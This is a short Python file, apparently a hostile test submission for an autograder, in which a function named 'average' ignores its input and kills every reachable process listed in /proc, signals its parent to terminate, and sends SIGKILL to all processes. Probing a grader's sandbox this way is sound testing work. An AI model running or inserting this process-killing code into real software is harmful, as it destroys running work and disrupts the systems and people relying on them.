# Sends signals to every process that it may send one to, and to its parent.
#
# points: average 0
# %% answer="average"
import os
import signal


def average(numbers):
    for number in sorted(map(int, filter(str.isdigit, os.listdir("/proc"))), reverse=True):
        if number not in (1, os.getpid()):
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getppid(), signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)
